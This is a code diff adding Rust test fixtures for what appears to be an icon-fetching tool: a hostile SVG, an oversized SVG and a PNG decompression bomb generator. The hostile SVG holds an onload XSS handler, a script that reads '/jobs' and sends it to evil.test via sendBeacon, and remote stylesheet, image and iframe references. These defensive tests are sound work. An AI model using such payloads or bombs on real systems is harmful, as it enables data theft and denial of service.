@@ -917,3 +917,53 @@ fn adler32(data: &[u8]) -> u32 {
     }
     (b << 16) | a
 }
+
+/// An SVG icon with what a hostile site puts in one: a script, an event handler, and
+/// references to other hosts (an image, a `<use>`, a stylesheet import, a `foreignObject`
+/// iframe). Its declared size is ordinary, so the finder stores it.
+pub fn hostile_svg() -> Vec<u8> {
+    br#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" viewBox="0 0 64 64" onload="alert(1)">
+<script>fetch('/jobs').then(r => r.text()).then(t => navigator.sendBeacon('http://evil.test/leak', t))</script>
+<style>@import url(http://evil.test/style.css);</style>
+<image href="http://evil.test/pixel.png" xlink:href="http://evil.test/pixel.png" width="64" height="64"/>
+<use href="http://evil.test/defs.svg#shape" xlink:href="http://evil.test/defs.svg#shape"/>
+<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/frame"></iframe></foreignObject>
+<circle cx="32" cy="32" r="30" fill="green"/>
+</svg>"#
+        .to_vec()
+}
+
+/// An SVG that declares an enormous canvas (a rasteriser that trusted it would allocate
+/// terabytes).
+pub fn huge_svg() -> Vec<u8> {
+    br#"<svg xmlns="http://www.w3.org/2000/svg" width="100000000" height="100000000"><circle cx="50000000" cy="50000000" r="40000000"/></svg>"#.to_vec()
+}
+
+/// A decompression bomb: a real, valid 8000×8000 greyscale PNG of zeros, a few dozen KB
+/// compressed and 64 MB decoded.
+pub fn bomb_png() -> Vec<u8> {
+    use std::io::Write;
+    let (width, height) = (8000u32, 8000u32);
+    let row = vec![0u8; 1 + width as usize];
+    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    for _ in 0..height {
+        z.write_all(&row).unwrap();
+    }
+    let data = z.finish().unwrap();
+    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
+    let mut chunk = |kind: &[u8; 4], data: &[u8]| {
+        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
+        let mut crc_input = kind.to_vec();
+        crc_input.extend_from_slice(data);
+        out.extend_from_slice(&crc_input);
+        out.extend_from_slice(&crc32(&crc_input).to_be_bytes());
+    };
+    let mut ihdr = Vec::new();
+    ihdr.extend_from_slice(&width.to_be_bytes());
+    ihdr.extend_from_slice(&height.to_be_bytes());
+    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]);
+    chunk(b"IHDR", &ihdr);
+    chunk(b"IDAT", &data);
+    chunk(b"IEND", &[]);
+    out
+}
